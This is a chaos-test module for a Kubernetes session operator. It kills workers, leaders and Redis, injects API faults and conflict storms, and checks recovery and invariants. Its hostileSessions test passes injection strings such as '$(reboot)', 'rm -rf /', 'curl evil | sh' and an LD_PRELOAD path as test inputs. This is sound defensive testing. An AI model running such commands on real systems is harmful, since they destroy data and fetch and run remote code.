// One function per fault: inject it against the running system, create sessions that live through it, measure
// the recovery, then check every invariant. Used by the full chaos suite and by the CI smoke subset.
import { expect } from 'vitest';
import type { RedisTopology } from '@ambient-operator/testing';
import { NAMESPACE, until, WATCHERS, WORKERS, type ChaosSystem, type RecoveryRecord } from './harness.js';

/**
 * The recovery bound of each fault the issue sets one for (fault injected → every session of its batch in its final
 * phase). The harness fails the fault's test when its recovery takes longer (harness.ts `record`).
 */
export const RECOVERY_TARGET_MS = {
  workerKill: 10_000,
  leaderKill: 20_000,
  watchesClosed: 10_000,
} as const;

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Concurrency of each chaos worker (MAX_CONCURRENT_RECONCILES), small so "mid-reconcile" is observable. */
export const CHAOS_CONCURRENCY = 4;

/** The most transitions one reconcile writes (e.g. None → Pending → Creating in one status write). */
const TRANSITIONS_PER_RECONCILE = 3;

async function watcherMetric(sys: ChaosSystem, watcher: string, pattern: RegExp): Promise<number> {
  const url = sys.stack.process(watcher)?.metricsUrl;
  if (!url) return 0;
  const text = await (await fetch(`${url}/metrics`)).text();
  return text
    .split('\n')
    .filter((l) => pattern.test(l))
    .reduce((sum, l) => sum + Number(l.split(' ').at(-1)), 0);
}

async function currentLeader(sys: ChaosSystem): Promise<string> {
  let leader: string | undefined;
  await until('a watcher to hold the Lease', async () => (leader = await sys.leader()) !== undefined, 30_000);
  return leader!;
}

/** SIGKILL a worker while both workers hold keys: the other one takes them over (lock 5 s + stall check 2 s). */
export async function workerSigkill(sys: ChaosSystem): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  // Slow requests keep reconciles in flight long enough to kill one mid-way (a real API server is slow enough).
  if (sys.kind === 'sim') await sys.sim('PUT', '/sim/faults', { latencyMs: 150 });
  const names = await sys.createBatch('wkill', 4);
  // More keys active than one worker may hold at once: both workers are mid-reconcile.
  await until(
    'both workers mid-reconcile',
    async () => (await sys.queue.counts()).active > CHAOS_CONCURRENCY,
    30_000,
  );
  await sys.countedTransitions(); // the victim's counts, as close to its death as we can read them
  const killedAt = Date.now();
  await sys.stack.kill('worker-1', 'SIGKILL');
  if (sys.kind === 'sim') await sys.sim('PUT', '/sim/faults', { latencyMs: 0 });
  const recoveredAt = await sys.waitForFinalPhases(names, 60_000);
  await sys.stack.restart('worker-1');
  // Transitions the victim wrote between our last scrape and its death died with its counters.
  const { uncounted } = await sys.checkInvariants(before, {
    uncountableAtMost: CHAOS_CONCURRENCY * TRANSITIONS_PER_RECONCILE,
  });
  return {
    fault: 'worker SIGKILL mid-reconcile',
    recoveryMs: recoveredAt - killedAt,
    targetMs: RECOVERY_TARGET_MS.workerKill,
    details: { sessions: names.length, transitionsLostWithTheKilledWorker: uncounted },
  };
}

/** Watches open (state "watching") in every running watcher, from their own /metrics. */
async function openWatches(sys: ChaosSystem): Promise<number> {
  let sum = 0;
  for (const w of WATCHERS) {
    if (!sys.stack.process(w)) continue;
    sum += await watcherMetric(sys, w, /^ambient_watcher_watch_state\{.*state="watching".*\} /);
  }
  return sum;
}

/** Sessions of `names` that have been reconciled at least once (they have a phase). */
async function reconciledOnce(sys: ChaosSystem, names: readonly string[]): Promise<number> {
  const wanted = new Set(names);
  const list = (await sys.custom.listNamespacedCustomObject({
    group: 'vteam.ambient-code',
    version: 'v1alpha1',
    plural: 'agenticsessions',
    namespace: NAMESPACE,
  })) as { items: { metadata: { name: string }; status?: { phase?: string } }[] };
  return list.items.filter((s) => wanted.has(s.metadata.name) && s.status?.phase).length;
}

/**
 * Kill (or stop) the leading watcher. Every replica enqueues its watch events, so sessions created right after the
 * kill are reconciled without waiting for the Lease; the standby takes the Lease later (on release, or on expiry
 * after a SIGKILL) for the resyncs. `failoverMs`: kill → every session of the batch reconciled once (asserted ≤
 * `assertFailoverWithinMs` when given: the full suite, not the CI smoke run on a loaded machine).
 */
export async function leaderFailover(
  sys: ChaosSystem,
  signal: 'SIGKILL' | 'SIGTERM',
  options: { assertFailoverWithinMs?: number } = {},
): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  const leader = await currentLeader(sys);
  const standby = WATCHERS.find((w) => w !== leader)!;
  const watchesBefore = await openWatches(sys);
  const killedAt = Date.now();
  await sys.stack.kill(leader, signal);
  // Sessions created while nobody holds the Lease: the surviving replica's watch events must carry them.
  const names = await sys.createBatch(signal === 'SIGKILL' ? 'lkill' : 'lterm', 1);
  await until(
    'every session of the batch reconciled once',
    async () => (await reconciledOnce(sys, names)) === names.length,
    60_000,
  );
  const failoverMs = Date.now() - killedAt;
  // The batch finishes on the survivor's events alone; the Lease changes hands later (on expiry after a SIGKILL).
  const recoveredAt = await sys.waitForFinalPhases(names, 60_000);
  let takeoverMs = 0;
  await until(
    `${standby} to take the Lease`,
    async () => {
      takeoverMs = Date.now() - killedAt;
      return (await sys.leader()) === standby;
    },
    30_000,
  );
  await sys.stack.restart(leader);
  await sys.checkInvariants(before);
  if (options.assertFailoverWithinMs !== undefined)
    expect(failoverMs).toBeLessThanOrEqual(options.assertFailoverWithinMs);
  return {
    fault: `leader watcher ${signal}`,
    recoveryMs: recoveredAt - killedAt,
    ...(signal === 'SIGKILL' ? { targetMs: RECOVERY_TARGET_MS.leaderKill } : {}),
    details: {
      failoverMs,
      ...(signal === 'SIGKILL' ? { failoverTargetMs: 5000 } : {}),
      leaseTakeoverMs: takeoverMs,
      sessions: names.length,
      watchConnectionsAllReplicas: watchesBefore,
      watchConnectionsPerReplica: watchesBefore / WATCHERS.length,
    },
  };
}

/** Redis stops (losing everything: no persistence) while sessions are created, then comes back empty. */
export async function redisRestart(sys: ChaosSystem): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  const early = await sys.createBatch('redis-before', 1);
  await sys.stack.kill('redis', 'SIGTERM');
  const during = await sys.createBatch('redis-down', 1);
  await sleep(2000); // the outage: watch events for these sessions cannot be enqueued
  await sys.stack.restart('redis');
  const backAt = Date.now();
  const recoveredAt = await sys.waitForFinalPhases([...early, ...during], 60_000);
  await sys.checkInvariants(before);
  return {
    fault: 'Redis restart (data lost)',
    recoveryMs: recoveredAt - backAt,
    details: { sessions: early.length + during.length, outageMs: 2000 },
  };
}

/** FLUSHALL right after a batch was created: its jobs and every pending timer are gone. */
export async function redisFlushall(sys: ChaosSystem): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  const names = await sys.createBatch('flush', 2);
  await sys.redis.flushall();
  const flushedAt = Date.now();
  const recoveredAt = await sys.waitForFinalPhases(names, 60_000);
  await sys.checkInvariants(before);
  return {
    fault: 'Redis FLUSHALL',
    recoveryMs: recoveredAt - flushedAt,
    details: { sessions: names.length },
  };
}

/** The API server restarts mid-lifecycle (state kept, every connection and watch cut, watch history lost). */
export async function kubeSimRestart(sys: ChaosSystem): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  const names = await sys.createBatch('simrestart', 2);
  await sleep(300); // sessions are now between Pending and Running
  const stoppedAt = Date.now();
  await sys.stack.restart('kube-sim');
  const backAt = Date.now();
  const recoveredAt = await sys.waitForFinalPhases(names, 60_000);
  await sys.checkInvariants(before);
  return {
    fault: 'kube-sim restart',
    recoveryMs: recoveredAt - backAt,
    details: { sessions: names.length, apiDownMs: backAt - stoppedAt },
  };
}

/** Every watch ends at once; clients must resume from their last resourceVersion. */
export async function closeAllWatches(sys: ChaosSystem): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  const closedAt = Date.now();
  const { closed } = (await sys.sim('POST', '/sim/watches/close')) as { closed: number };
  const names = await sys.createBatch('wclose', 2);
  const recoveredAt = await sys.waitForFinalPhases(names, 30_000);
  await sys.checkInvariants(before);
  return {
    fault: 'close all watches',
    recoveryMs: recoveredAt - closedAt,
    targetMs: RECOVERY_TARGET_MS.watchesClosed,
    details: { watchesClosed: closed, sessions: names.length },
  };
}

/**
 * Every watch goes silent (open, nothing sent, bookmarks lost): only the watcher's stall timeout (90 s without
 * an event or bookmark) notices. Sessions created meanwhile must still be picked up by the relist.
 */
export async function stallWatches(sys: ChaosSystem): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  const leader = await currentLeader(sys);
  const stalledRestarts =
    /^ambient_watcher_watch_restarts_total\{[^}]*resource="agenticsessions"[^}]*reason="stalled"/;
  const restartsBefore = await watcherMetric(sys, leader, stalledRestarts);
  await sys.sim('POST', '/sim/watches/stall', { on: true });
  const stalledAt = Date.now();
  const names = await sys.createBatch('stall', 1);
  await until(
    'the leader to notice the stalled session watch',
    async () => (await watcherMetric(sys, leader, stalledRestarts)) > restartsBefore,
    150_000,
  );
  const detectedAt = Date.now();
  // New connections work again (a silently dead TCP path is per connection, not the server's).
  await sys.sim('POST', '/sim/watches/stall', { on: false });
  const recoveredAt = await sys.waitForFinalPhases(names, 60_000);
  await sys.checkInvariants(before);
  return {
    fault: 'stall watches silently',
    recoveryMs: recoveredAt - stalledAt,
    details: { stallDetectedMs: detectedAt - stalledAt, afterDetectionMs: recoveredAt - detectedAt },
  };
}

/** A burst of random 500 or 429 answers on every API request (the operator's own and the test's). */
export async function apiErrorBurst(sys: ChaosSystem, status: 500 | 429): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  const names = await sys.createBatch(`err${status}`, 2);
  const burstMs = 5000;
  await sys.sim(
    'PUT',
    '/sim/faults',
    status === 500 ? { errorRate500: 0.3 } : { errorRate429: 0.3, retryAfterSeconds: 1 },
  );
  await sleep(burstMs);
  await sys.sim('POST', '/sim/faults/reset');
  const endedAt = Date.now();
  const recoveredAt = await sys.waitForFinalPhases(names, 60_000);
  await sys.checkInvariants(before);
  return {
    fault: `API ${status} burst (30 % of requests for 5 s)`,
    recoveryMs: recoveredAt - endedAt,
    details: { sessions: names.length, burstMs },
  };
}

/** +500 ms on every API request during a whole lifecycle: slower, never wrong. */
export async function apiLatency(sys: ChaosSystem): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  await sys.sim('PUT', '/sim/faults', { latencyMs: 500 });
  const startedAt = Date.now();
  let doneAt: number;
  try {
    const names = await sys.createBatch('latency', 2);
    doneAt = await sys.waitForFinalPhases(names, 120_000);
  } finally {
    await sys.sim('POST', '/sim/faults/reset');
  }
  await sys.checkInvariants(before);
  return {
    fault: '+500 ms API latency',
    recoveryMs: doneAt - startedAt,
    details: { note: 'time for 8 lifecycles to finish with the latency on' },
  };
}

/**
 * A competing writer (as the backend is) patches status.lastActivityTime and an annotation of every session of
 * the batch as fast as it can: the workers' resourceVersion-guarded status writes meet 409s and must recompute.
 */
export async function conflictStorm(sys: ChaosSystem): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  const conflictsBefore = await workerReconciles(sys, 'conflict');
  const names = await sys.createBatch('conflict', 2);
  const startedAt = Date.now();
  let writes = 0;
  let running = true;
  const writer = async (name: string) => {
    const api = { group: 'vteam.ambient-code', version: 'v1alpha1', plural: 'agenticsessions' };
    const { PatchStrategy, setHeaderOptions } = await import('@kubernetes/client-node');
    const merge = setHeaderOptions('Content-Type', PatchStrategy.MergePatch);
    while (running) {
      await sys.custom
        .patchNamespacedCustomObjectStatus(
          {
            ...api,
            namespace: 'demo',
            name,
            body: { status: { lastActivityTime: new Date().toISOString() } },
          },
          merge,
        )
        .then(
          () => writes++,
          () => undefined,
        );
      await sys.custom
        .patchNamespacedCustomObject(
          {
            ...api,
            namespace: 'demo',
            name,
            body: { metadata: { annotations: { 'chaos.ambient-code.io/touch': String(writes) } } },
          },
          merge,
        )
        .then(
          () => writes++,
          () => undefined,
        );
    }
  };
  const writers = names.map(writer);
  let doneAt: number;
  try {
    doneAt = await sys.waitForFinalPhases(names, 120_000);
  } finally {
    running = false;
    await Promise.all(writers);
  }
  await sys.checkInvariants(before);
  const conflicts = (await workerReconciles(sys, 'conflict')) - conflictsBefore;
  // The storm ran through the lifecycles. Most 409s are absorbed inside a reconcile (re-read and recompute), so
  // the conflicts that reach the queue are reported, not required.
  expect(writes).toBeGreaterThan(names.length * 10);
  return {
    fault: '409 storm from a competing writer',
    recoveryMs: doneAt - startedAt,
    details: { competingWrites: writes, conflictsReachingTheQueue: conflicts },
  };
}

async function workerReconciles(sys: ChaosSystem, outcome: string): Promise<number> {
  let sum = 0;
  for (const name of ['worker-1', 'worker-2']) {
    const url = sys.stack.process(name)?.metricsUrl;
    if (!url) continue;
    const text = await (await fetch(`${url}/metrics`)).text();
    const m = new RegExp(`^ambient_reconcile_total\\{outcome="${outcome}"\\} (\\S+)$`, 'm').exec(text);
    sum += Number(m?.[1] ?? 0);
  }
  return sum;
}

/**
 * Invalid and hostile sessions: names the API server must refuse, names whose derived children would be too
 * long, a megabyte prompt, shell and env-override attempts. None may crash a worker or stop its neighbours.
 */
export async function hostileSessions(sys: ChaosSystem): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  const startedAt = Date.now();
  const refused: string[] = [];
  for (const name of ['Bad_Name', 'x;rm -rf', '$(reboot)', 'a'.repeat(254), '../etc', 'é']) {
    const status = await sys.createSession(name, {}, 'refused').then(
      () => 201,
      (err: unknown) => (err as { code?: number }).code,
    );
    sys.expected.delete(name);
    if (status !== 422)
      throw new Error(`kube-sim accepted the invalid name ${JSON.stringify(name)} (${status})`);
    refused.push(name);
  }
  // Names valid for the API server whose Job (`<name>-runner`) or Service (`session-<name>`) would not be.
  const tooLong = ['l'.repeat(60), 's'.repeat(56)];
  for (const name of tooLong) await sys.createSession(name, {}, 'Failed');
  await sys.createSession('huge-prompt', { initialPrompt: 'x'.repeat(1_000_000) }, 'Running');
  const hostileEnv = {
    SHELL_INJECTION: '$(reboot); `rm -rf /` && curl evil | sh',
    MULTILINE: 'a\nb\r\n--privileged',
    AGUI_TOKEN: 'stolen-token',
    LD_PRELOAD: '/tmp/evil.so',
  };
  await sys.createSession('hostile-env', { environmentVariables: hostileEnv }, 'Running');
  const neighbours = await sys.createBatch('hostile-neighbour', 1);
  const doneAt = await sys.waitForFinalPhases(
    [...tooLong, 'huge-prompt', 'hostile-env', ...neighbours],
    60_000,
  );
  await sys.checkInvariants(before);

  // Too-long names fail before anything is created for them.
  const jobs = (await sys.batch.listNamespacedJob({ namespace: 'demo' })).items;
  for (const name of tooLong)
    expect(jobs.some((j) => j.metadata?.labels?.['agentic-session'] === name)).toBe(false);
  // Hostile values reach the runner literally; the operator's token stays a Secret reference.
  const runner = jobs
    .find((j) => j.metadata?.name === 'hostile-env-runner')
    ?.spec?.template.spec?.containers.find((c) => c.name === 'ambient-code-runner');
  const env = runner?.env ?? [];
  expect(env.find((e) => e.name === 'SHELL_INJECTION')?.value).toBe(hostileEnv.SHELL_INJECTION);
  expect(env.find((e) => e.name === 'MULTILINE')?.value).toBe(hostileEnv.MULTILINE);
  const tokens = env.filter((e) => e.name === 'AGUI_TOKEN');
  expect(tokens).toHaveLength(1);
  expect(tokens[0]?.valueFrom?.secretKeyRef?.name).toBe('ambient-runner-token-hostile-env');
  return {
    fault: 'invalid and hostile sessions',
    recoveryMs: doneAt - startedAt,
    details: {
      refusedByApi: refused.length,
      failedByOperator: tooLong.length,
      note: 'time until all reached their phases',
    },
  };
}

/** Reconciles finished so far, summed over the running workers (`ambient_reconcile_total`, every outcome). */
async function reconcilesFinished(sys: ChaosSystem): Promise<number> {
  let sum = 0;
  for (const name of WORKERS) {
    const url = sys.stack.process(name)?.metricsUrl;
    if (!url) continue;
    const text = await (await fetch(`${url}/metrics`)).text();
    for (const line of text.split('\n'))
      if (line.startsWith('ambient_reconcile_total{')) sum += Number(line.split(' ').at(-1));
  }
  return sum;
}

/**
 * SIGKILL the Redis master holding the queue (Sentinel-managed or in a Cluster) in the middle of a burst of
 * 4 × `perKind` sessions. Measures the promotion (kill → a replica serves the queue), when reconciles flow again
 * (more finished than could have been in flight at the kill, so new jobs were taken from the promoted replica) and
 * when every session of the burst is in its final phase; then every invariant, the lost-write case included (the
 * watchers resync after their Redis client reconnected).
 */
export async function redisMasterKill(
  sys: ChaosSystem,
  topology: RedisTopology,
  options: { tag: string; perKind: number; mode: 'Sentinel' | 'Cluster' },
): Promise<RecoveryRecord> {
  const before = await sys.baseline();
  const startCount = await reconcilesFinished(sys);
  const names = await sys.createBatch(options.tag, options.perKind);
  // Mid-burst: a good part of the sessions reconciled, most still on their way.
  await until(
    'the burst under way',
    async () => (await reconcilesFinished(sys)) - startCount >= names.length / 2,
    120_000,
  );
  const { killedAt, promoted } = await topology.killQueueMaster();
  const promotedAt = await promoted();
  const atPromotion = await reconcilesFinished(sys);
  const inFlightAtMost = WORKERS.length * CHAOS_CONCURRENCY;
  await until(
    'reconciles to flow again',
    async () => (await reconcilesFinished(sys)) > atPromotion + inFlightAtMost,
    120_000,
  );
  const flowingAt = Date.now();
  const recoveredAt = await sys.waitForFinalPhases(names, 240_000);
  await sys.checkInvariants(before);
  return {
    fault: `Redis ${options.mode} master SIGKILL during a burst`,
    recoveryMs: recoveredAt - killedAt,
    details: {
      sessions: names.length,
      promotionMs: promotedAt - killedAt,
      reconcilesFlowingAfterKillMs: flowingAt - killedAt,
      reconcilesFlowingAfterPromotionMs: flowingAt - promotedAt,
      reconcilesFlowingAfterPromotionTargetMs: 10_000,
    },
  };
}
